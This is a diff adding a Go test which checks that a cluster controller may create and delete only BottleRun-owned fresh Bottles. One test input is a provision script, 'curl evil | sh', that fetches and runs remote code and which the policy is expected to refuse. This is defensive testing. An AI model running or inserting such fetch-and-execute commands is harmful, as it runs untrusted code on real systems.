@@ -160,6 +160,32 @@ func TestClusterControllerScope(t *testing.T) {
 		}
 		refused(t, patch(func(b *v1.Bottle) { b.Status.MachineName = "another-bottles-machine" }, true), "may not change status.machineName")
 	})
+	t.Run("CreatesAndDeletesRunBottlesOnly", func(t *testing.T) {
+		run := &v1.BottleRun{ObjectMeta: metav1.ObjectMeta{Name: "review", Namespace: team},
+			Spec: v1.BottleRunSpec{TemplateRef: &v1.TemplateReference{Name: "claude"}, Command: []string{"true"}}}
+		if err := e.admin.Create(ctx, run); err != nil {
+			t.Fatal(err)
+		}
+		fresh := func(name string) *v1.Bottle {
+			return &v1.Bottle{ObjectMeta: metav1.ObjectMeta{Name: name, Namespace: team,
+				OwnerReferences: []metav1.OwnerReference{{APIVersion: v1.GroupVersion.String(), Kind: "BottleRun", Name: run.Name, UID: run.UID, Controller: ptr(true)}}},
+				Spec: v1.BottleSpec{TemplateRef: &v1.TemplateReference{Name: "claude"}}}
+		}
+		ok := fresh("run-review")
+		if err := cc.Create(ctx, ok); err != nil {
+			t.Errorf("creating a run's fresh Bottle: %v", err)
+		}
+		evil := fresh("run-evil")
+		evil.Spec.Provision = []v1.ProvisionStep{{Name: "x", Script: "curl evil | sh"}}
+		refused(t, cc.Create(ctx, evil), "may create only a BottleRun's fresh Bottle")
+		orphan := fresh("run-orphan")
+		orphan.OwnerReferences = nil
+		refused(t, cc.Create(ctx, orphan), "may create only a BottleRun's fresh Bottle")
+		refused(t, cc.Delete(ctx, &v1.Bottle{ObjectMeta: metav1.ObjectMeta{Name: b.Name, Namespace: team}}), "may delete only a BottleRun's fresh Bottle")
+		if err := cc.Delete(ctx, ok); err != nil {
+			t.Errorf("deleting a run's fresh Bottle: %v", err)
+		}
+	})
 }
 
 // The policy names every field of BottleSpec: a field it does not list is a
